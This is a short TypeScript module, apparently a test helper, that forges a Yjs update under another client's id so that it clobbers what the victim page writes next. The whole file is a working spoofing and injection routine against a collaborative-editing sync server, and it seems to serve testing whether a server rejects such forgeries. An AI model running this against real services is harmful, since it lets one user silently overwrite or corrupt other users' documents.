/** New words under another page's client id, which would replace what that page writes next. */
import * as Y from "yjs";
import type { RawClient } from "./raw-client.ts";

/** Sends them from a page that knows all that the server knows. */
export function sendUnderIdOf(clientId: number, thief: RawClient): void {
  const forged = new Y.Doc();
  Y.applyUpdate(forged, Y.encodeStateAsUpdate(thief.doc));
  forged.clientID = clientId;
  const known = Y.encodeStateVector(forged);
  forged.getMap("anything").set("x", "x".repeat(400));
  thief.sendUpdate(Y.encodeStateAsUpdate(forged, known));
}
